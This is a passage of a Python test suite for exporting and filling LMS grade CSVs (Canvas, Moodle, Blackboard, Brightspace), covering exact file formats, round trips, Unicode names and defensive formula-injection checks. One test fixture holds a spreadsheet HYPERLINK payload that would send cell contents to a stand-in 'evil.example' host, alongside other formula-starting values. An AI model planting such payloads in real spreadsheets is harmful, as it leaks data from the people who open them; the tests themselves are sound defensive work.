"""LMS grade CSVs: exact files per format, the documented format facts, round trips through each
LMS's own export, formula injection and Korean names. Pure: runs without Django settings."""

from __future__ import annotations

import csv
import io
import re
import types
from decimal import Decimal

import pytest

from exercises.gradebook.lms import (
    BLACKBOARD,
    BRIGHTSPACE,
    CANVAS,
    MOODLE,
    WRITERS,
    ExportColumn,
    ExportStudent,
    Sheet,
    blackboard_csv,
    brightspace_csv,
    canvas_csv,
    detect_lms,
    export_warnings,
    fill_lms_export,
    format_score,
    join_lines,
    moodle_csv,
    neutralize,
    plain_csv,
    plan_export,
)

# Sources of the format facts checked below (also listed in docs/lms-export.md):
CANVAS_EXPORTER = "https://github.com/instructure/canvas-lms/blob/master/lib/gradebook_exporter.rb"
CANVAS_IMPORTER = (
    "https://github.com/instructure/canvas-lms/blob/master/app/models/gradebook_importer.rb"
)
CANVAS_ASSIGNMENT = "https://github.com/instructure/canvas-lms/blob/master/app/models/assignment.rb"
CANVAS_GUIDE = "https://community.canvaslms.com/t5/Instructor-Guide/How-do-I-import-grades-in-the-Gradebook/ta-p/807"
MOODLE_DOCS = "https://docs.moodle.org/en/Grade_import"
MOODLE_LOAD_DATA = (
    "https://github.com/moodle/moodle/blob/main/grade/import/csv/classes/load_data.php"
)
MOODLE_CSVLIB = "https://github.com/moodle/moodle/blob/main/lib/csvlib.class.php"
MOODLE_TXT_EXPORT = (
    "https://github.com/moodle/moodle/blob/main/grade/export/txt/grade_export_txt.php"
)
BLACKBOARD_HELP = (
    "http://library.blackboard.com/ref/3ea64795-6ecc-4abd-b595-0a9a8dfdec94/Content/"
    "_instructor_grade_center/grade_center_upload_download.htm"
)
BRIGHTSPACE_IMPORT = "https://community.d2l.com/brightspace/kb/articles/3538-importing-grades"
BRIGHTSPACE_POUND = "https://kb.wisc.edu/page.php?id=4330"
BRIGHTSPACE_COLUMN_ORDER = "https://www.brightspacehelp.usc.edu/instructors/import-grades"
OWASP = "https://owasp.org/www-community/attacks/CSV_Injection"

D = Decimal

MINJI = ExportStudent(
    key="s1",
    name="김민지",
    email="minji@example.edu",
    username="mjkim",
    student_id="2024001",
    sis_user_id="2024001",
    section="Section A",
    first_name="민지",
    last_name="김",
    lms_ids={CANVAS: "501"},
)
JUN = ExportStudent(
    key="s2",
    name="Jun Lee",
    email="Jun.Lee@example.edu",
    username="junlee",
    student_id="00417",
    sis_user_id="00417",
    section="Section B",
    first_name="Jun",
    last_name="Lee",
)
WEEK1 = ExportColumn(
    key="p1",
    title="Week 1",
    points_possible=D(10),
    lms_ids={CANVAS: "9001", BLACKBOARD: "12345"},
)
WEEK2 = ExportColumn(key="p2", title="Week 2: Chain rule", points_possible=D("12.5"))
STUDENTS = [MINJI, JUN]
COLUMNS = [WEEK1, WEEK2]
SCORES = {("s1", "p1"): D("7.50"), ("s1", "p2"): D("12.5"), ("s2", "p1"): D(0), ("s2", "p2"): None}
SHEET = Sheet(STUDENTS, COLUMNS, SCORES)


def rows_of(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


# ---------------------------------------------------------------------------------------------
# Numbers and text cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (D("7.50"), "7.5"),
        (D("10"), "10"),
        (10, "10"),
        (0, "0"),
        (D("1E+1"), "10"),
        (D("1E+3"), "1000"),
        (D("2.5E-1"), "0.25"),
        (D("0.005"), "0.01"),
        (D("0.004"), "0"),
        (D("-0.001"), "0"),
        (D("-1.5"), "-1.5"),
        (D("3.14159"), "3.14"),
        (D("12.345"), "12.35"),
        (D("100.00"), "100"),
    ],
)
def test_format_score(value, expected):
    assert format_score(value) == expected


@pytest.mark.parametrize(
    ("value", "error"),
    [(1.5, TypeError), ("7", TypeError), (True, TypeError), (D("NaN"), ValueError)],
)
def test_format_score_rejects(value, error):
    with pytest.raises(error):
        format_score(value)


# OWASP: cells starting with = + - @ tab or CR get a leading apostrophe.
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1-2", "'+1-2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kim, Minji", "Kim, Minji"),
        ("김민지", "김민지"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


# ---------------------------------------------------------------------------------------------
# Writers: the exact file per format


@pytest.mark.parametrize(
    ("writer", "options", "expected"),
    [
        (
            canvas_csv,
            {},
            "Student,ID,SIS User ID,SIS Login ID,Section,Week 1 (9001),Week 2: Chain rule\r\n"
            "    Points Possible,,,,,10,12.5\r\n"
            "김민지,501,2024001,mjkim,Section A,7.5,12.5\r\n"
            "Jun Lee,,00417,junlee,Section B,0,\r\n",
        ),
        (
            canvas_csv,
            {"points_possible_row": False},
            "Student,ID,SIS User ID,SIS Login ID,Section,Week 1 (9001),Week 2: Chain rule\r\n"
            "김민지,501,2024001,mjkim,Section A,7.5,12.5\r\n"
            "Jun Lee,,00417,junlee,Section B,0,\r\n",
        ),
        (
            moodle_csv,
            {},
            "Email address,Week 1 (Real),Week 2: Chain rule (Real)\r\n"
            "minji@example.edu,7.5,12.5\r\n"
            "Jun.Lee@example.edu,0,\r\n",
        ),
        (
            moodle_csv,
            {"key": "username"},
            "Username,Week 1 (Real),Week 2: Chain rule (Real)\r\nmjkim,7.5,12.5\r\njunlee,0,\r\n",
        ),
        (
            moodle_csv,
            {"key": "idnumber"},
            "ID number,Week 1 (Real),Week 2: Chain rule (Real)\r\n2024001,7.5,12.5\r\n00417,0,\r\n",
        ),
        (
            blackboard_csv,
            {},
            '"Last Name","First Name","Username","Week 1 [Total Pts: 10 Score] |12345",'
            '"Week 2: Chain rule"\r\n'
            '"김","민지","mjkim","7.5","12.5"\r\n'
            '"Lee","Jun","junlee","0",""\r\n',
        ),
        (
            brightspace_csv,
            {},
            "OrgDefinedId,Username,Week 1 Points Grade,Week 2: Chain rule Points Grade,"
            "End-of-Line Indicator\r\n"
            "#2024001,#mjkim,7.5,12.5,#\r\n"
            "#00417,#junlee,0,,#\r\n",
        ),
        (
            brightspace_csv,
            {"key": "username", "max_points": True},
            "Username,Week 1 Points Grade <Numeric MaxPoints:10>,"
            "Week 2: Chain rule Points Grade <Numeric MaxPoints:12.5>,End-of-Line Indicator\r\n"
            "#mjkim,7.5,12.5,#\r\n"
            "#junlee,0,,#\r\n",
        ),
        (
            brightspace_csv,
            {"key": "org_defined_id"},
            "OrgDefinedId,Week 1 Points Grade,Week 2: Chain rule Points Grade,"
            "End-of-Line Indicator\r\n"
            "#2024001,7.5,12.5,#\r\n"
            "#00417,0,,#\r\n",
        ),
        (
            plain_csv,
            {},
            "\ufeffStudent,Email,Week 1,Week 2: Chain rule,Total\r\n"
            "김민지,minji@example.edu,7.5,12.5,20\r\n"
            "Jun Lee,Jun.Lee@example.edu,0,,0\r\n",
        ),
        (
            plain_csv,
            {"choices": "late penalty applied; best attempt", "bom": False},
            "Student,Email,Week 1,Week 2: Chain rule,Total,Export choices\r\n"
            "김민지,minji@example.edu,7.5,12.5,20,late penalty applied; best attempt\r\n"
            "Jun Lee,Jun.Lee@example.edu,0,,0,late penalty applied; best attempt\r\n",
        ),
    ],
    ids=[
        "canvas",
        "canvas-no-points-row",
        "moodle-email",
        "moodle-username",
        "moodle-idnumber",
        "blackboard",
        "brightspace-both",
        "brightspace-username-maxpoints",
        "brightspace-orgdefinedid",
        "plain",
        "plain-choices",
    ],
)
def test_writer_exact_file(writer, options, expected):
    assert join_lines(writer(SHEET, **options)) == expected


@pytest.mark.parametrize("name", sorted(WRITERS))
def test_writers_stream_one_line_at_a_time(name):
    lines = WRITERS[name](SHEET)
    assert isinstance(lines, types.GeneratorType)
    chunks = list(lines)
    assert all(chunk.endswith("\r\n") and chunk.count("\r\n") == 1 for chunk in chunks)


def test_plain_total_is_blank_without_any_score():
    text = join_lines(plain_csv(Sheet([JUN], [WEEK2], {}), bom=False))
    assert rows_of(text) == [
        ["Student", "Email", "Week 2: Chain rule", "Total"],
        ["Jun Lee", "Jun.Lee@example.edu", "", ""],
    ]


@pytest.mark.parametrize(
    ("writer", "options"), [(moodle_csv, {"key": "nickname"}), (brightspace_csv, {"key": "email"})]
)
def test_writers_reject_unknown_keys(writer, options):
    with pytest.raises(ValueError):  # at the call, before a streamed response has started
        writer(SHEET, **options)


# ---------------------------------------------------------------------------------------------
# Documented format facts


def test_canvas_facts():
    rows = rows_of(join_lines(canvas_csv(SHEET)))
    header, points = rows[0], rows[1]
    # CANVAS_IMPORTER row_has_student_headers?: row[0] includes "Student", row[1] includes "ID".
    assert "Student" in header[0] and "ID" in header[1]
    # CANVAS_IMPORTER update_column_count: "SIS User ID" then "SIS Login ID" after ID, and the
    # last student-information column must include "Section".
    assert header[2:5] == ["SIS User ID", "SIS Login ID", "Section"]
    # CANVAS_ASSIGNMENT title_and_id: /\A(.*)\s\((\d+)\)\z/ gives title and assignment id.
    assert re.fullmatch(r"(.*)\s\((\d+)\)", header[5]).groups() == ("Week 1", "9001")
    assert re.fullmatch(r"(.*)\s\((\d+)\)", header[6]) is None  # new assignment, by title
    # CANVAS_EXPORTER: the second row starts with "    Points Possible" (4 spaces); CANVAS_IMPORTER
    # skips any row whose first cell includes "Points Possible".
    assert points[0] == "    Points Possible" and points[1:5] == ["", "", "", ""]
    assert points[5:] == ["10", "12.5"]
    # CANVAS_IMPORTER: every row has the header's width.
    assert {len(r) for r in rows} == {7}


def test_moodle_facts():
    text = join_lines(moodle_csv(SHEET))
    rows = rows_of(text)
    # MOODLE_CSVLIB load_csv_content: a row with another column count fails ("csvweirdcolumns").
    assert {len(r) for r in rows} == {3}
    # MOODLE_DOCS: map from the file's column to "useremail" (emails are case sensitive in
    # Moodle, so we write them exactly as stored).
    assert rows[0][0] == "Email address" and rows[2][0] == "Jun.Lee@example.edu"
    # MOODLE_LOAD_DATA update_grade_item: "" or "-" is no grade, else unformat_float(value).
    assert [r[2] for r in rows[1:]] == ["12.5", ""]
    assert not text.startswith("\ufeff")


def test_moodle_uses_the_moodle_item_name_when_known():
    quiz = ExportColumn(key="p1", title="Week 1", lms_ids={MOODLE: "Quiz: Week 1 (Real)"})
    text = join_lines(moodle_csv(Sheet(STUDENTS, [quiz], SCORES)))
    assert rows_of(text)[0] == ["Email address", "Quiz: Week 1 (Real)"]


def test_blackboard_facts():
    text = join_lines(blackboard_csv(SHEET))
    # BLACKBOARD_HELP: "Data in each column of comma-delimited files (file extension of .csv)
    # must be contained within a quote character".
    for line in text.split("\r\n")[:-1]:
        fields = next(csv.reader([line], quoting=csv.QUOTE_NONE))
        assert all(f.startswith('"') and f.endswith('"') for f in fields)
    rows = rows_of(text)
    # BLACKBOARD_HELP: the student's unique identifier is the username; the column's is its
    # column id (after "|"); a header without one creates a new column.
    assert rows[0][2] == "Username"
    assert rows[0][3].rsplit("|", 1)[1] == "12345"
    assert "|" not in rows[0][4]


def test_brightspace_facts():
    rows = rows_of(join_lines(brightspace_csv(SHEET)))
    # BRIGHTSPACE_COLUMN_ORDER: OrgDefinedId is column A and Username column B.
    assert rows[0][:2] == ["OrgDefinedId", "Username"]
    # BRIGHTSPACE_IMPORT: numeric items are "<item name> Points Grade".
    assert [h for h in rows[0] if h.endswith(" Points Grade")] == rows[0][2:4]
    # BRIGHTSPACE_POUND: ids carry a "#" prefix (not part of the data; keeps "00417" intact in
    # Excel) and the last field, "End-of-Line Indicator", holds "#".
    assert rows[0][-1] == "End-of-Line Indicator"
    assert [r[-1] for r in rows[1:]] == ["#", "#"]
    assert rows[2][:2] == ["#00417", "#junlee"]


# ---------------------------------------------------------------------------------------------
# Safety and Unicode

EVIL = ExportStudent(
    key="s9",
    name='=HYPERLINK("http://evil.example/?"&A1,"x")',
    email="-eve@example.edu",
    username="-eve",
    student_id="+77",
    sis_user_id="@77",
    section="@Section",
    first_name="+Eve",
    last_name="=Evil",
    lms_ids={CANVAS: "777"},
)
EVIL_COLUMN = ExportColumn(key="p9", title="=1+1", points_possible=D(5))


@pytest.mark.parametrize(
    ("writer", "expected_row"),
    [
        (
            canvas_csv,
            [
                '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
                "777",
                "@77",
                "-eve",
                "'@Section",
                "-2",
            ],
        ),
        (moodle_csv, ["-eve@example.edu", "-2"]),
        (blackboard_csv, ["'=Evil", "'+Eve", "-eve", "-2"]),
        (brightspace_csv, ["#+77", "#-eve", "-2", "#"]),
        (
            plain_csv,
            ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'-eve@example.edu", "-2", "-2"],
        ),
    ],
    ids=["canvas", "moodle", "blackboard", "brightspace", "plain"],
)
def test_formula_injection_neutralized_but_ids_and_numbers_kept(writer, expected_row):
    rows = rows_of(join_lines(writer(Sheet([EVIL], [EVIL_COLUMN], {("s9", "p9"): D(-2)}))))
    assert rows[-1] == expected_row
    assert all(h == "Export choices" or not h.startswith(("=", "+", "@")) for h in rows[0])


def test_injection_warnings():
    name = EVIL.name
    assert export_warnings(MOODLE, [EVIL], [EVIL_COLUMN]) == [
        f"{name}: identifier '-eve@example.edu' starts like a formula; not altered",
        f"{name}: identifier '-eve' starts like a formula; not altered",
        f"{name}: identifier '+77' starts like a formula; not altered",
        f"{name}: identifier '@77' starts like a formula; not altered",
        "'=1+1': title written with a leading apostrophe (formula guard)",
    ]


CANVAS_CSV_WITH_I18N = "https://github.com/instructure/canvas-lms/blob/master/lib/csv_with_i18n.rb"


# Excel needs a BOM to read UTF-8 (why Canvas offers one: CANVAS_CSV_WITH_I18N); Moodle strips it
# (MOODLE_CSVLIB, trim_utf8_bom). The LMS files default to the LMS's own export, without a BOM;
# the plain sheet, made for Excel, has one. Moodle and Brightspace files carry no names.
@pytest.mark.parametrize(
    ("name", "bom", "korean_row"),
    [
        (CANVAS, False, ["김민지", "501", "2024001", "mjkim", "Section A", "7.5", "12.5"]),
        (MOODLE, False, ["minji@example.edu", "7.5", "12.5"]),
        (BLACKBOARD, False, ["김", "민지", "mjkim", "7.5", "12.5"]),
        (BRIGHTSPACE, False, ["#2024001", "#mjkim", "7.5", "12.5", "#"]),
        ("plain", True, ["김민지", "minji@example.edu", "7.5", "12.5", "20"]),
    ],
)
def test_utf8_korean_names_and_bom(name, bom, korean_row):
    data = join_lines(WRITERS[name](SHEET)).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf") is bom
    text = data.decode("utf-8-sig")
    assert rows_of(text)[-2] == korean_row
    with_bom = join_lines(WRITERS[name](SHEET, bom=True))
    assert with_bom.startswith("\ufeff") and with_bom.count("\ufeff") == 1
    assert with_bom.lstrip("\ufeff") == text


# ---------------------------------------------------------------------------------------------
# Warnings before upload


def test_plan_leaves_out_and_names_what_each_importer_would_misread():
    nobody = ExportStudent(key="s5", name="No Ids")
    titled = ExportColumn(key="p5", title="Quiz (3)", points_possible=D(5))
    everyone = {("s5", "p1"): D(1), ("s5", "p5"): D(1), **SCORES}
    canvas = plan_export(CANVAS, Sheet([nobody, *STUDENTS], [WEEK1, titled], everyone))
    assert [s.key for s in canvas.students] == ["s1", "s2"]
    assert [c.key for c in canvas.columns] == ["p1"]
    assert canvas.left_out == [
        "'Quiz (3)': left out; Canvas reads a title ending in '(3)' as assignment id 3. Fill "
        "your Canvas gradebook export here once: later files carry the assignment's real id",
        "No Ids: no Canvas ID, SIS User ID or SIS Login ID; left out (Canvas would look for the "
        "student by name)",
    ]
    moodle = plan_export(MOODLE, Sheet([nobody, MINJI], [WEEK1], everyone), key="username")
    assert moodle.left_out == [
        "No Ids: no Username; left out (Moodle would put the grades on the student of the row "
        "above)"
    ]
    blackboard = plan_export(BLACKBOARD, Sheet([nobody, MINJI], [WEEK1, WEEK2], everyone))
    assert [c.key for c in blackboard.columns] == ["p1"]
    assert blackboard.left_out[1] == (
        "No Ids: no username; left out (Blackboard cannot match the row)"
    )
    brightspace = plan_export(BRIGHTSPACE, Sheet([nobody, MINJI], [WEEK1], everyone))
    assert brightspace.left_out == [
        "No Ids: no OrgDefinedId or Username; left out (Brightspace cannot match the row)"
    ]
    assert plan_export(CANVAS, SHEET).left_out == []


# ---------------------------------------------------------------------------------------------
# Round trip: each LMS's own gradebook export (small, realistic samples) filled with our scores

# Shape from CANVAS_EXPORTER: custom column "Notes", assignments "Title (id)", the Points Possible
# row with "(read only)" under computed columns, "N/A" where an assignment is not assigned, the
# test student last.
CANVAS_EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Notes,Week 1 (9001),Week 2: Chain rule (9002),"
    "Reading Quiz (9100),Current Points,Final Points,Current Score,Unposted Current Score,"
    "Final Score,Unposted Final Score\r\n"
    "    Points Possible,,,,,,10.00,12.50,5.00,(read only),(read only),(read only),(read only),"
    "(read only),(read only)\r\n"
    '"Lee, Jun",502,00417,junlee,Section B,late add,N/A,3.00,4.00,7.00,7.00,80.00,80.00,'
    "40.00,40.00\r\n"
    '"김, 민지",501,2024001,mjkim,Section A,,8.00,,5.00,13.00,13.00,86.67,86.67,48.15,48.15\r\n'
    '"Park, Hana",503,2024009,hpark,Section A,,9.00,10.00,5.00,24.00,24.00,88.89,88.89,'
    "88.89,88.89\r\n"
    '"Student, Test",599,,,Section A,,,,,0.00,0.00,,,0.00,0.00\r\n'
)
WEEK2_CANVAS = ExportColumn(
    key="p2", title="Week 2: Chain rule", points_possible=D("12.5"), lms_ids={CANVAS: "9002"}
)
WEEK3 = ExportColumn(key="p3", title="Week 3", points_possible=D(10))
ROUND_SCORES = {
    ("s1", "p1"): D("9.5"),
    ("s1", "p2"): D("11.25"),
    ("s2", "p1"): D(6),
    ("s2", "p2"): None,
    ("s3", "p3"): D(1),
}
NEWBIE = ExportStudent(
    key="s3", name="New Student", email="new@example.edu", username="newbie", student_id="2024100"
)


def test_canvas_round_trip():
    # CANVAS_IMPORTER process_student: rows match on ID, then SIS User ID, then SIS Login ID;
    # parse_assignments: columns match on the "(id)", so ids and titles must stay as exported.
    result = fill_lms_export(
        CANVAS_EXPORT,
        ROUND_SCORES,
        students=[MINJI, JUN, NEWBIE],
        columns=[WEEK1, WEEK2_CANVAS, WEEK3],
    )
    assert result.lms == CANVAS
    assert result.filled == 2
    original = rows_of(CANVAS_EXPORT)
    expected = [list(r) for r in original]
    expected[3][6] = "9.5"  # 김민지, Week 1
    expected[3][7] = "11.25"  # 김민지, Week 2 (was blank)
    assert rows_of(result.text) == expected
    assert result.warnings == (
        "column 'Week 3': not in the canvas file; create it there first",
        "row 3 (Jun Lee): 'Week 1' is not assigned in Canvas",
        "row 5 (Park, Hana): no student here with SIS Login ID 'hpark'",
        "row 6 (Student, Test): no SIS Login ID in this row",
        "student 'New Student': not in the canvas file",
    )
    # Unchanged rows are byte-for-byte the LMS's own lines.
    assert result.text.split("\r\n")[4] == CANVAS_EXPORT.split("\r\n")[4]


def test_canvas_round_trip_matches_on_canvas_id_and_keeps_semicolons():
    semicolons = (
        "Student;ID;SIS Login ID;Section;Week 1 (9001)\n"
        "    Points Possible;;;;10,00\n"
        "Kim Minji;501;someone-else;Section A;8,00\n"
    )
    result = fill_lms_export(
        semicolons, ROUND_SCORES, students=[MINJI], columns=[WEEK1], match_on="id"
    )
    assert result.text == (
        "Student;ID;SIS Login ID;Section;Week 1 (9001)\n"
        "    Points Possible;;;;10,00\n"
        "Kim Minji;501;someone-else;Section A;9.5\n"
    )
    assert result.warnings == ()


def test_canvas_round_trip_skips_read_only_columns():
    text = (
        "Student,ID,SIS Login ID,Section,Week 1 (9001)\r\n"
        "    Points Possible,,,,(read only)\r\n"
        "Kim,501,mjkim,A,8\r\n"
    )
    result = fill_lms_export(text, ROUND_SCORES, students=[MINJI], columns=[WEEK1])
    assert result.filled == 0
    assert result.text == text
    assert result.warnings == ("column 'Week 1 (9001)': read only in Canvas; not filled",)


def test_canvas_title_match_only_when_we_do_not_know_the_id():
    text = (
        "Student,ID,SIS Login ID,Section,Week 1 (4242),Week 2: Chain rule (9002)\r\n"
        "Kim,501,mjkim,A,,\r\n"
    )
    result = fill_lms_export(text, ROUND_SCORES, students=[MINJI], columns=[WEEK1, WEEK2])
    # Week 1 is 9001 here, so "Week 1 (4242)" is another assignment; Week 2's id is unknown here,
    # so its title decides.
    assert rows_of(result.text)[1] == ["Kim", "501", "mjkim", "A", "", "11.25"]
    assert result.warnings == ("column 'Week 1': not in the canvas file; create it there first",)


# Shape from MOODLE_TXT_EXPORT: profile fields, "<Module>: <item> (Real)" per display type,
# "-" for no grade, "Last downloaded from this course" last.
MOODLE_EXPORT = (
    "First name,Last name,ID number,Institution,Department,Email address,"
    "Quiz: Week 1 (Real),Quiz: Week 1 (Percentage),Week 2: Chain rule (Real),"
    "Assignment: Essay (Real),Last downloaded from this course\n"
    "민지,김,2024001,,,MINJI@example.edu,8.00,80.00 %,-,70.00,1795852800\n"
    "Jun,Lee,00417,,,jun.lee@example.edu,-,-,3.00,-,1795852800\n"
    "Ghost,User,,,,ghost@example.edu,-,-,-,-,1795852800\n"
)


def test_moodle_round_trip():
    result = fill_lms_export(
        MOODLE_EXPORT.encode("utf-8"),
        ROUND_SCORES,
        students=[MINJI, JUN],
        columns=[WEEK1, WEEK2],
    )
    assert (result.lms, result.encoding, result.filled) == (MOODLE, "utf-8", 3)
    expected = rows_of(MOODLE_EXPORT)
    expected[1][6] = "9.5"
    expected[1][8] = "11.25"
    expected[2][6] = "6"  # Jun's Week 2 is None: the 3.00 Moodle has stays
    assert rows_of(result.text) == expected
    assert result.text.endswith("\n") and "\r" not in result.text
    assert result.warnings == (
        "row 4 (Ghost User): no student here with Email address 'ghost@example.edu'",
    )


def test_moodle_round_trip_by_idnumber_keeps_leading_zeros():
    result = fill_lms_export(
        MOODLE_EXPORT, ROUND_SCORES, students=[JUN], columns=[WEEK1], match_on="idnumber"
    )
    assert rows_of(result.text)[2][:7] == [
        "Jun",
        "Lee",
        "00417",
        "",
        "",
        "jun.lee@example.edu",
        "6",
    ]


# Blackboard's download: every field quoted, "Title [Total Pts: N Score] |columnId"; here as the
# tab-delimited .xls in UTF-16 that Blackboard also offers.
BLACKBOARD_EXPORT = (
    '"Last Name","First Name","Username","Student ID","Last Access","Availability",'
    '"Week 1 [Total Pts: 10 Score] |12345","Week 2: Chain rule [Total Pts: 12.5 Score] |12346",'
    '"Midterm [Total Pts: 100 Score] |12400","Total [Total Pts: up to 122.5 Score] |12300"\r\n'
    '"김","민지","MJKim","2024001","2026-11-20 10:00:00","Yes","8","","75","83"\r\n'
    '"Lee","Jun","junlee","00417","2026-11-21 09:30:00","Yes","","3","60","63"\r\n'
)


def test_blackboard_round_trip():
    result = fill_lms_export(
        BLACKBOARD_EXPORT, ROUND_SCORES, students=[MINJI, JUN, NEWBIE], columns=[WEEK1, WEEK2]
    )
    assert (result.lms, result.filled) == (BLACKBOARD, 3)
    expected = rows_of(BLACKBOARD_EXPORT)
    expected[1][6], expected[1][7] = "9.5", "11.25"
    expected[2][6] = "6"
    assert rows_of(result.text) == expected
    assert result.text.startswith('"Last Name","First Name","Username"')  # still all quoted
    assert result.warnings == ("student 'New Student': not in the blackboard file",)


def test_blackboard_round_trip_tab_delimited_utf16():
    tabbed = BLACKBOARD_EXPORT.replace('","', '"\t"')
    result = fill_lms_export(
        "\ufeff".encode("utf-16-le") + tabbed.encode("utf-16-le"),
        ROUND_SCORES,
        students=[MINJI],
        columns=[WEEK1],
    )
    assert result.encoding == "utf-16-le"
    assert result.text.startswith('\ufeff"Last Name"\t"First Name"\t"Username"')
    assert rows_of(result.text, delimiter="\t")[1][6] == "9.5"
    assert result.text.encode(result.encoding).startswith(b'\xff\xfe"\x00L\x00')
    assert result.warnings == ("row 3 (Lee, Jun): no student here with Username 'junlee'",)


# Shape from Brightspace's export (BRIGHTSPACE_POUND): "#" before ids, item headers with their
# <Numeric ...> properties, computed columns, "End-of-Line Indicator" last; UTF-8 with BOM.
BRIGHTSPACE_EXPORT = (
    "\ufeffOrgDefinedId,Username,Last Name,First Name,Email,"
    "Week 1 Points Grade <Numeric MaxPoints:10 Weight:5 Category:Problem sets CategoryWeight:50>,"
    "Week 2: Chain rule Points Grade <Numeric MaxPoints:12.5>,Essay Text Grade <Text>,"
    "Calculated Final Grade Numerator,Calculated Final Grade Denominator,End-of-Line Indicator\r\n"
    "#2024001,#mjkim,김,민지,minji@example.edu,8,,Good,8,10,#\r\n"
    "#00417,#junlee,Lee,Jun,Jun.Lee@example.edu,,3,,3,12.5,#\r\n"
)


def test_brightspace_round_trip():
    result = fill_lms_export(
        BRIGHTSPACE_EXPORT.encode("utf-8"),
        ROUND_SCORES,
        students=[MINJI, JUN],
        columns=[WEEK1, WEEK2, WEEK3],
    )
    assert (result.lms, result.filled) == (BRIGHTSPACE, 3)
    assert result.text.startswith("\ufeffOrgDefinedId,")
    expected = rows_of(BRIGHTSPACE_EXPORT)
    expected[1][5], expected[1][6] = "9.5", "11.25"
    expected[2][5] = "6"
    assert rows_of(result.text) == expected
    assert [r[0] for r in rows_of(result.text)[1:]] == ["#2024001", "#00417"]
    assert result.warnings == (
        "column 'Week 3': not in the brightspace file; create it there first",
    )


def test_brightspace_round_trip_by_username():
    result = fill_lms_export(
        BRIGHTSPACE_EXPORT, ROUND_SCORES, students=[JUN], columns=[WEEK1], match_on="username"
    )
    assert rows_of(result.text)[2][5] == "6"
    assert result.warnings == ("row 2 (김, 민지): no student here with Username 'mjkim'",)


# Brightspace leaves OrgDefinedId empty for users the institution has not numbered (guests,
# manually created accounts); its import takes such a row by Username.
BRIGHTSPACE_MIXED = (
    "OrgDefinedId,Username,Last Name,First Name,Email,Week 1 Points Grade,End-of-Line Indicator\r\n"
    "#2024001,#mjkim,김,민지,minji@example.edu,,#\r\n"
    ",#junlee,Lee,Jun,Jun.Lee@example.edu,,#\r\n"
    "#5150,#ana,No-Number,Ana,ana@example.edu,,#\r\n"
    ",,Park,Hana,,,#\r\n"
    "#9999,#MJKIM,Kim,Impostor,,,#\r\n"
    "#7777,#ghost,User,Ghost,,,#\r\n"
    ",,,,,,#\r\n"
)
ANA = ExportStudent(key="s4", name="Ana No-Number", username="ana")  # no OrgDefinedId here
NOBODY = ExportStudent(key="s5", name="Nobody", email="nobody@example.edu")


def test_brightspace_fill_matches_on_org_defined_id_else_username_by_default():
    result = fill_lms_export(
        BRIGHTSPACE_MIXED,
        {**ROUND_SCORES, ("s4", "p1"): D(4)},
        students=[MINJI, JUN, ANA],
        columns=[WEEK1],
    )
    assert [row[5] for row in rows_of(result.text)[1:]] == ["9.5", "6", "4", "", "", "", ""]
    assert result.filled == 3
    assert result.warnings == (
        "row 5 (Park, Hana): no OrgDefinedId or Username in this row",
        # Username MJKIM is 김민지's, but her OrgDefinedId is 2024001, not 9999: not matched.
        "row 6 (Kim, Impostor): no student here with OrgDefinedId '9999' or Username 'MJKIM'",
        "row 7 (User, Ghost): no student here with OrgDefinedId '7777' or Username 'ghost'",
        "row 8: no OrgDefinedId or Username in this row",
    )


def test_brightspace_fill_on_org_defined_id_only_still_refuses_rows_without_one():
    result = fill_lms_export(
        BRIGHTSPACE_MIXED,
        ROUND_SCORES,
        students=[MINJI, JUN],
        columns=[WEEK1],
        match_on="org_defined_id",
    )
    assert [row[5] for row in rows_of(result.text)[1:]] == ["9.5", "", "", "", "", "", ""]
    assert result.warnings[0] == "row 3 (Lee, Jun): no OrgDefinedId in this row"
    assert "student 'Jun Lee': not in the brightspace file" in result.warnings


def test_brightspace_fill_by_username_when_the_file_has_no_org_defined_id_column():
    text = "Username,Week 1 Points Grade,End-of-Line Indicator\r\n#junlee,,#\r\n#ghost,,#\r\n"
    result = fill_lms_export(text, ROUND_SCORES, students=[JUN, NOBODY], columns=[WEEK1])
    assert rows_of(result.text)[1:] == [["#junlee", "6", "#"], ["#ghost", "", "#"]]
    assert result.warnings == (
        "student 'Nobody': no Username here; cannot match",
        "row 3 (#ghost): no student here with Username 'ghost'",
    )


@pytest.mark.parametrize(
    ("text", "lms"),
    [
        (CANVAS_EXPORT, CANVAS),
        (MOODLE_EXPORT, MOODLE),
        (BLACKBOARD_EXPORT, BLACKBOARD),
        (BRIGHTSPACE_EXPORT, BRIGHTSPACE),
        ("LastName,FirstName,ID,SIS Login ID,Section,Quiz (1)\r\n", CANVAS),
        ('"Last Name","First Name","Username","Quiz"\r\n', BLACKBOARD),
    ],
)
def test_detect_lms(text, lms):
    assert detect_lms(rows_of(text)[0]) == lms


@pytest.mark.parametrize(
    ("text", "options", "message"),
    [
        ("", {}, "empty"),
        ("Name,Score\r\nKim,1\r\n", {}, "not a Canvas, Moodle, Blackboard or Brightspace"),
        (CANVAS_EXPORT, {"match_on": "email"}, "canvas rows match on one of"),
        (
            "Last Name,Week 1 Points Grade,End-of-Line Indicator\r\n",
            {},
            "the brightspace file has no 'OrgDefinedId' or 'Username' column",
        ),
        (MOODLE_EXPORT, {"match_on": "username"}, "no 'Username' column"),
        (CANVAS_EXPORT, {"lms": "sakai"}, "lms is one of"),
        (b"\xff\xfeS\x00\xff\xdc", {}, "not UTF-8 or UTF-16"),
        (b"Email address,Quiz\r\n\xc0,1\r\n", {}, "not UTF-8 or UTF-16"),
    ],
)
def test_fill_rejects(text, options, message):
    with pytest.raises(ValueError, match=re.escape(message)):
        fill_lms_export(text, ROUND_SCORES, students=[MINJI], columns=[WEEK1], **options)


def test_fill_reports_duplicates_and_missing_ids_on_our_side():
    twin = ExportStudent(key="s7", name="Twin", username="MJKIM")
    blank = ExportStudent(key="s8", name="Blank")
    text = (
